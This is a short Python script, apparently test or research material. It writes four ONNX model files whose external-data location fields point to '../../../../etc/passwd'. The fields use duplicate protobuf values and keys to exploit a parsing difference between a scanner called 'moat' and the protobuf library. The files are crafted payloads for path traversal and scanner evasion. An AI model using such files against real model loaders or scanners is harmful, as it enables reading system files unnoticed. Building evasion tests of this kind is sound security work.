"""ONNX external-data locations that moat reads differently from protobuf (last value wins
for a singular field; moat takes the first). Written only."""
import os
O = os.path.dirname(os.path.abspath(__file__)) + "/"
def varint(n):
    out = b""
    while True:
        b = n & 0x7f; n >>= 7
        out += bytes([b | (0x80 if n else 0)])
        if not n: return out
def fld(num, val):
    if isinstance(val, int): return varint(num << 3) + varint(val)
    if isinstance(val, str): val = val.encode()
    return varint(num << 3 | 2) + varint(len(val)) + val
def entry(*parts): return b"".join(parts)
def model(ext_entries):
    tensor = fld(1, 4) + fld(2, 1) + fld(8, "w") + b"".join(fld(13, e) for e in ext_entries) + fld(14, 1)
    graph = fld(2, "g") + fld(5, tensor)
    return fld(1, 8) + fld(2, "pytorch") + fld(7, graph) + fld(8, fld(1, "") + fld(2, 17))
files = {
  "o0_baseline.onnx": [entry(fld(1, "location"), fld(2, "../../../../etc/passwd"))],
  # value given twice: protobuf keeps the last (../../etc/passwd); moat checks the first
  "o1_dup_value.onnx": [entry(fld(1, "location"), fld(2, "w.bin"), fld(2, "../../../../etc/passwd"))],
  # key given twice: first 'offset' (moat: not a location), then 'location' (protobuf: a location)
  "o2_dup_key.onnx": [entry(fld(1, "offset"), fld(1, "location"), fld(2, "../../../../etc/passwd"))],
  # two location entries: onnx's ExternalDataInfo setattr()s each in turn, the last wins;
  # moat also keeps the last one here (control)
  "o3_two_entries.onnx": [entry(fld(1, "location"), fld(2, "../../../../etc/passwd")), entry(fld(1, "location"), fld(2, "w.bin"))],
}
for n, e in files.items(): open(O + n, "wb").write(model(e))
print("ok")
